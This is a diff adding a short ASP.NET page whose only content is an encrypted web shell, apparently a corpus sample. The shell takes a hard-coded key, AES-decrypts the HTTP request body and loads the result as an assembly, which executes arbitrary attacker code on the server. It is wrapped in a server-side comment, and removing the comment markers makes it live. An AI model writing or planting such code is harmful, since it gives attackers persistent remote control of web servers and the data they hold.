@@ -1,0 +1,5 @@
+<%-- inert corpus sample (hegui)
+<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%>
+<%Session.Add("k","251fbe72ec90c197"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);
+Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>
+--%>
